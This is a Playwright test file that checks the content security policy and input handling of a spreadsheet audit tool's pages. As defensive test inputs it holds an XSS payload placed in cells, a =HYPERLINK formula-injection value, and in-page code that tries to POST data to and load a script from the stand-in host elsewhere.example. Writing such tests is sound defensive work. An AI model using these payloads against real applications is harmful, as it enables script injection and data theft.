/** The built pages, with Office.js copied beside them as on an intranet, in a browser that has no other network. */
import { readdirSync } from 'node:fs';
import ExcelJS from 'exceljs';
import type { Browser, BrowserContext, Page, Request } from 'playwright-core';
import { serveFolder } from '../../scripts/static-server';
import { loadFilled } from '../support/filled-sample';
import { artefact, downloadsOnly, launchBrowser } from './browser';
import { BUILDING, buildPages } from './build-pages';

const PAGES = ['commands.html', 'help.html', 'index.html', 'message.html', 'taskpane.html'];
/** Would set a mark on the window if it became markup. */
const MARKUP = '<img src="x" onerror="window.ranFromCell=1"><script>window.ranFromCell=1</script>';
const FORMULA = '=HYPERLINK("https://elsewhere.example/","点这里")';

interface Refusal {
  readonly directive: string;
  readonly refused: string;
}

interface Watched extends Window {
  refusals: Refusal[];
  [mark: string]: unknown;
}

let browser: Browser;
let pages: string;
let server: Awaited<ReturnType<typeof serveFolder>>;
let context: BrowserContext;
let requests: Request[];

beforeAll(async () => {
  pages = await buildPages('local');
  server = await serveFolder(pages, 3800);
  browser = await launchBrowser();
}, BUILDING);

beforeEach(async () => {
  requests = [];
  context = await browser.newContext({ locale: 'zh-CN', viewport: { width: 1280, height: 800 } });
  await downloadsOnly(context);
  // A machine under load takes its time; the test's own limit is the only one.
  context.setDefaultTimeout(0);
  context.on('request', (request) => requests.push(request));
  await context.addInitScript(() => {
    const watched = window as unknown as Watched;
    watched.refusals = [];
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      watched.refusals.push({ directive: effectiveDirective, refused: blockedURI }),
    );
  });
});

afterEach(() => context.close());

afterAll(async () => {
  await browser.close();
  server.close();
});

async function openPage(name: string): Promise<Page> {
  const page = await context.newPage();
  await page.goto(server.address + name, { waitUntil: 'networkidle' });
  return page;
}

/** Requests to other origins, but those that the policy kept the browser from making. */
function strangers(): string[] {
  const own = new URL(server.address).origin;
  return requests
    .filter((request) => /^(https?|wss?):/.test(request.url()) && new URL(request.url()).origin !== own)
    .filter((request) => !/csp/i.test(request.failure()?.errorText ?? ''))
    .map((request) => request.url());
}

const refusalsOf = (page: Page) => page.evaluate(() => (window as unknown as Watched).refusals);

const markOf = (page: Page, mark: string) => page.evaluate((name) => (window as unknown as Watched)[name], mark);

test('these are all the pages there are', () => {
  expect(readdirSync(pages).filter((name) => name.endsWith('.html'))).toEqual(PAGES);
});

describe.each(PAGES)('%s', (name) => {
  test('asks no other origin for anything, and nothing of it runs into its own policy', async () => {
    const page = await openPage(name);
    // Office.js, where it loads outside Excel, opens a frame on a host of Microsoft's for telemetry: that is what is refused.
    const refusals = (await refusalsOf(page)).filter(({ directive }) => directive !== 'frame-src');
    expect({ strangers: strangers(), refusals }).toEqual({ strangers: [], refusals: [] });
    // Not for want of Office.js, but for the browser version, which is to have none.
    expect(await page.evaluate(() => 'Office' in window)).toBe(name !== 'index.html');
  });

  test('an inline script, an inline handler, a text as code, a script from elsewhere do not run; nothing can be sent', async () => {
    const page = await openPage(name);
    const sent = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.ranInline = 1';
      const foreign = document.createElement('script');
      foreign.src = 'https://elsewhere.example/script.js';
      const picture = document.createElement('img');
      picture.setAttribute('onerror', 'window.ranHandler = 1');
      picture.src = 'data:image/png;base64,AAAA';
      document.body.append(script, foreign, picture);
      setTimeout('window.ranText = 1', 0);
      const answer = await fetch('https://elsewhere.example/', { method: 'POST', body: '底稿' }).then(
        () => 'sent',
        () => 'refused',
      );
      await new Promise((resolve) => setTimeout(resolve, 200));
      return answer;
    });
    expect(sent).toBe('refused');
    for (const mark of ['ranInline', 'ranHandler', 'ranText']) expect(await markOf(page, mark)).toBeUndefined();
    const directives = (await refusalsOf(page)).map(({ directive }) => directive);
    expect(directives).toEqual(
      expect.arrayContaining(['script-src-elem', 'script-src-attr', 'script-src', 'connect-src']),
    );
    expect(strangers()).toEqual([]);
  });
});

test('markup in a cell is shown as the text it is: in the grid, in the findings, on paper', async () => {
  const book = await loadFilled();
  const table = book.getWorksheet('表3');
  if (!table) throw new Error('表3 is missing');
  table.getCell('D9').value = MARKUP;
  table.getCell('E9').value = MARKUP;
  const page = await openPage('index.html');
  await chooseFile(page, book);
  await page.getByRole('tab', { name: '表3' }).click();
  await page.locator('#grid').getByText(MARKUP).first().waitFor();
  await page.getByRole('button', { name: '审核', exact: true }).click();
  await page.getByRole('main').getByText('<img src="x"', { exact: false }).first().waitFor();
  await page.screenshot({ path: artefact('security-markup.png') });
  await page.evaluate(() => {
    window.print = () => undefined;
  });
  await page.getByRole('button', { name: '打印全部表' }).click();
  await page.locator('#print').getByText(MARKUP).first().waitFor({ state: 'attached' });
  expect(await page.locator('img[onerror]').count()).toBe(0);
  expect(await markOf(page, 'ranFromCell')).toBeUndefined();
  expect((await refusalsOf(page)).map(({ directive }) => directive)).toEqual([]);
}, 180_000);

test('a text that begins with = goes into the tables, and into the saved file, as text', async () => {
  const book = await loadFilled();
  const ledger = book.getWorksheet('支出明细');
  if (!ledger) throw new Error('支出明细 is missing');
  const isProject = (row: ExcelJS.Row) => row.getCell(3).text === '项目支出';
  const projects = (ledger.getRows(5, 40) ?? []).filter(isProject);
  const renamed = projects[0]?.getCell(4);
  if (!renamed) throw new Error('no project in the sample');
  const before = renamed.text;
  for (const row of projects) if (row.getCell(4).text === before) row.getCell(4).value = FORMULA;
  const page = await openPage('index.html');
  await chooseFile(page, book);
  await page.getByRole('button', { name: '一键生成' }).first().click();
  await page.getByText('已生成：').waitFor();
  const saved = await saveFile(page);
  const cells: ExcelJS.Cell[] = [];
  saved.getWorksheet('表7')?.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
  const written = cells.filter((cell) => cell.text.includes('HYPERLINK'));
  expect(written.length).toBeGreaterThan(0);
  for (const cell of written) {
    expect(cell.value).toBe(FORMULA);
    expect(cell.numFmt).toBe('@');
  }
}, 180_000);

async function chooseFile(page: Page, book: ExcelJS.Workbook): Promise<void> {
  const buffer = Buffer.from(await book.xlsx.writeBuffer());
  await page.getByRole('tab').first().waitFor();
  await page.getByLabel('选择工作簿文件').setInputFiles({
    name: '打开的.xlsx',
    mimeType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    buffer,
  });
  await page.locator('.top-file', { hasText: '打开的.xlsx' }).waitFor();
}

async function saveFile(page: Page): Promise<ExcelJS.Workbook> {
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: '保存', exact: true }).click(),
  ]);
  const saved = new ExcelJS.Workbook();
  await saved.xlsx.readFile(await download.path());
  return saved;
}
